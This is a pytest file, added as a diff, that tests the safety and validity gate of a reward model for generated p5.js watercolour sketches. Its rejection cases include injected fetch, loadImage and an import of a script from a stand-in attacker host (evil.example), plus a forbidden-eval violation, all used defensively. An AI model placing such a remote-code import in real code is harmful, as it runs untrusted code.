@@ -1,0 +1,107 @@
+"""Each gate rule, tripped by a sketch (or by what the sandbox reports about one)."""
+
+from __future__ import annotations
+
+import numpy as np
+import pytest
+
+from aquarelle.brush.program import Program
+from aquarelle.rewards.composite import RewardModel
+from aquarelle.rewards.gate import check_gate, strip_code
+
+GOOD = """async function setup() {
+  createCanvas(600, 600, WEBGL);
+  brush.scaleBrushes(1.5);
+  angleMode(DEGREES);
+  noLoop();
+}
+
+function draw() {
+  translate(-width / 2, -height / 2);
+  background("#fffceb");
+  // a comment with rect( and text( inside must not count
+  const label = "ellipse(1, 2, 3)";
+  brush.noStroke();
+  brush.fill("#d8402f", 120);
+  brush.circle(300, 300, 120, 0.3);
+}
+"""
+PROGRAM = Program.from_calls([("background", ["#fffceb"]), ("fill", ["#d8402f", 120]), ("circle", [300, 300, 120])])
+
+
+def painted(frac: float, bg=(255, 252, 235)) -> np.ndarray:
+    img = np.zeros((100, 100, 3), np.uint8)
+    img[:] = bg
+    img.reshape(-1, 3)[: int(round(frac * 10000))] = (200, 60, 50)
+    return img
+
+
+def gate(source=GOOD, img=None, program=PROGRAM, **kw):
+    return check_gate(image=painted(0.2) if img is None else img, program=program, source=source, **kw)
+
+
+def test_good_sketch_passes():
+    g = gate()
+    assert g.passed and g.reasons == [] and g.coverage == pytest.approx(0.2)
+
+
+@pytest.mark.parametrize("source, words", [
+    (GOOD[: GOOD.index("brush.circle") + 20], "truncated"),
+    (GOOD + "\nconst s = 'never closed;\n", "unterminated string"),
+    (GOOD + "\n/* trailing comment never closed", "comment"),
+    (GOOD.replace("async function setup()", "async function start()"), "no setup()"),
+    (GOOD.replace("600, 600, WEBGL", "600, 600"), "WEBGL"),
+    (GOOD.replace("brush.noStroke();", "fetch('/x');"), "external access: fetch"),
+    (GOOD.replace("brush.noStroke();", "const im = loadImage('cat.png');"), "external access: loadImage"),
+    (GOOD.replace("brush.noStroke();", "import('https://evil.example/x.js');"), "external access"),
+    (GOOD.replace("brush.noStroke();", "text('a watercolour', 10, 10);"), "text()"),
+    (GOOD.replace("brush.noStroke();", "ellipse(300, 300, 80);"), "bare p5 drawing (use brush.*): ellipse"),
+    (GOOD.replace("brush.noStroke();", "rect(0, 0, 600, 600);"), "bare p5 drawing (use brush.*): rect"),
+    (GOOD.replace("brush.noStroke();", "brush.paintMasterpiece();"), "unknown brush method(s): paintMasterpiece"),
+])
+def test_source_rules(source, words):
+    g = gate(source)
+    assert not g.passed and any(words in r for r in g.reasons), g.reasons
+
+
+def test_calls_outside_action_space():
+    src = GOOD.replace("brush.noStroke();", 'brush.wash("#ff0000", 100);')
+    assert gate(src, action_space="full").passed
+    g = gate(src, action_space="hf10")
+    assert not g.passed and "outside the hf10 action space: wash" in g.reasons
+
+
+def test_own_helpers_named_like_p5_are_not_bare_drawing():
+    src = GOOD.replace("function draw()", "function petal(x) { return x; }\nfunction draw()")
+    src = src.replace("brush.noStroke();", "petal(3); brush.noStroke();")
+    assert gate(src).passed
+
+
+def test_sandbox_error_and_violations_fail_the_gate():
+    g = gate(error="ReferenceError: nosuch is not defined")
+    assert not g.passed and g.reasons == ["sketch failed: ReferenceError: nosuch is not defined"]
+    g = gate(error="time limit (5 s) exceeded")
+    assert "sketch failed: time limit (5 s) exceeded" in g.reasons
+    g = gate(violations=["forbidden global: eval"])
+    assert g.reasons == ["forbidden global: eval"]
+
+
+def test_nothing_painted_and_too_little_paint():
+    only_state = Program.from_calls([("background", ["#fffceb"]), ("fill", ["#d8402f", 120])])
+    g = gate(program=only_state, img=painted(0.0))
+    assert not g.passed and any("nothing painted" in r for r in g.reasons)
+    g = gate(img=painted(0.004))
+    assert not g.passed and any("< 0.5%" in r for r in g.reasons)
+    assert gate(img=painted(0.006)).passed
+    assert not check_gate(image=None, program=None).passed
+
+
+def test_truncation_scanner_ignores_brackets_in_strings_and_comments():
+    code, why = strip_code("const a = '({['; // ]]]\nf(1);")
+    assert why is None and "(" not in code.split("\n")[0].replace("f(", "")
+
+
+def test_failed_gate_makes_the_whole_reward_zero():
+    r = RewardModel().score(image=painted(0.3), program=PROGRAM, source=GOOD.replace("brush.noStroke();", "text('x',1,1);"))
+    assert r.reward == 0.0 and r.breakdown["gate"] == 0.0 and r.gate_reasons == ["text() is not allowed"]
+    assert r.breakdown["judge"] is None and r.error is None and "Gate failed" in r.critique
